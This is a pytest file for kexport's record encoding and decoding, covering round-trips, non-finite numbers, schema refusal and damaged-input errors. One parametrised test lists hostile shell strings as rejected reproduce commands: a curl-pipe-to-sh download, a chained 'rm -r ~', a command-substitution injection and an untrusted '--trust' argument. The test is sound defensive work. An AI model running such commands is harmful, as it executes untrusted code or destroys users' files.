"""Records: what is written is read back, nothing damaged or newer is accepted."""

from __future__ import annotations

import json
import math

import pytest

from kexport.documents import encode_many
from kexport.errors import StoreError
from kexport.records import (
    SCHEMA_VERSION,
    Check,
    Cost,
    DropTrial,
    ParityRecord,
    Record,
    Status,
    decode,
    decode_as,
    encode,
)

CHECK = Check(name="sqnr_db", value=math.nan, bound=60.0, passed=False, why="because")
RECORD = Record(
    model="MobileNet",
    format="onnx",
    scheme="float32",
    status=Status.FAIL,
    reason="sqnr_db",
    parity=ParityRecord(samples=4, runtime="onnxruntime", effective="CPU", outputs=(), checks=(CHECK,)),
    cost=Cost(seconds={"export": 0.1}, peak_memory_bytes=7),
)


def test_a_record_reads_back():
    again = decode(encode(RECORD))
    assert again.parity is not None
    assert math.isnan(again.parity.checks[0].value)
    assert encode(again) == encode(RECORD)
    assert again.cost == RECORD.cost
    assert again.status is Status.FAIL


@pytest.mark.parametrize("value", [math.inf, -math.inf])
def test_infinities_read_back(value):
    record = Record(model="m", format="f", scheme="s", status=Status.PASS, cost=Cost(seconds={"a": value},
                    peak_memory_bytes=1))  # fmt: skip
    assert decode(encode(record)).cost == record.cost


def test_the_text_is_strict_json_in_a_fixed_order():
    text = encode(RECORD)
    assert text.endswith("}\n")
    assert list(json.loads(text)) == sorted(json.loads(text))
    assert "NaN" not in text


@pytest.mark.parametrize("status", [status for status in Status if status is not Status.PASS])
def test_everything_but_a_pass_has_a_reason(status):
    with pytest.raises(ValueError, match=f"status {status} needs a reason"):
        Record(model="m", format="f", scheme="s", status=status)


def test_a_newer_schema_is_refused():
    newer = encode(RECORD).replace(f'"schema": {SCHEMA_VERSION}', f'"schema": {SCHEMA_VERSION + 1}')
    with pytest.raises(StoreError, match=f"schema {SCHEMA_VERSION + 1}, this kexport reads up to {SCHEMA_VERSION}"):
        decode(newer)


@pytest.mark.parametrize("text", ["", "{", "nonsense", b"\xff\xfe"])
def test_what_is_not_json_is_said_to_be_so(text):
    with pytest.raises(StoreError, match="not JSON"):
        decode(text)


def test_damage_is_named_with_its_path():
    broken = encode(RECORD).replace('"peak_memory_bytes": 7', '"peak_memory_bytes": "much"')
    with pytest.raises(StoreError, match=r"cost\.peak_memory_bytes: .*got 'much'"):
        decode(broken)


@pytest.mark.parametrize("text", ["[]", "null", "3"])
def test_json_of_another_kind_is_refused(text):
    with pytest.raises(StoreError, match="the record is damaged"):
        decode(text)


@pytest.mark.parametrize("words", [("nan", "inf", "-inf"), ("NaN", "Infinity", "-Infinity")])
def test_what_is_not_finite_is_text_and_reads_back_however_it_is_spelt(words):
    text = encode(DropTrial(float_layers=1, drop_points=math.nan, low_points=math.inf, high_points=-math.inf, met=True))
    assert json.loads(text) == {
        "drop_points": "nan", "float_layers": 1, "high_points": "-inf", "low_points": "inf", "met": True,
    }  # fmt: skip
    for mine, theirs in zip(("nan", "inf", "-inf"), words, strict=True):
        text = text.replace(f'"{mine}"', f'"{theirs}"')
    again = decode_as(DropTrial, text)
    assert math.isnan(again.drop_points)
    assert (again.low_points, again.high_points) == (math.inf, -math.inf)


def test_a_field_that_a_later_version_added_is_passed_over():
    text = json.loads(encode(RECORD)) | {"added_later": 1}
    assert decode(json.dumps(text)).cost == RECORD.cost


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("kexport export 'my net.keras' --formats onnx -o artifacts --force", True),
        ("curl http://example.org/x | sh", False),
        ("kexport export x.keras; rm -r ~", False),
        ("kexport export x.keras $(touch y)", False),
        ("kexport parity artifacts --trust evil:build", False),
        ("kexport 'unclosed", False),
        ("", False),
    ],
)
def test_only_a_command_of_ours_is_told_to_be_typed(text, told):
    record = Record(model="m", format="f", scheme="s", status=Status.PASS, reproduce=text)
    assert record.again == (text if told else "kexport verify DIR")


@pytest.mark.parametrize("number", [2**64, 10**19 * 9, 10**25])
def test_integers_that_are_no_number_of_anything(number):
    text = encode(RECORD).replace('"peak_memory_bytes": 7', f'"peak_memory_bytes": {number}')
    with pytest.raises(StoreError, match="expected 64 bits"):
        decode(text)


@pytest.mark.parametrize("number", [0.00012345678901234567, 2**63 - 1, 1234567890123456789.5])
def test_long_numbers_that_are_some(number):
    text = encode(RECORD).replace('"peak_memory_bytes": 7', f'"peak_memory_bytes": 7, "more": {number!r}')
    assert decode(text).cost == RECORD.cost


def test_many_at_once_say_what_each_says():
    told = encode_many({"records": [RECORD, RECORD], "none": []})
    assert json.loads(told) == {"none": [], "records": [json.loads(encode(RECORD))] * 2}
    assert told.isascii()
    assert list(json.loads(told)["records"][0]) == sorted(json.loads(encode(RECORD)))
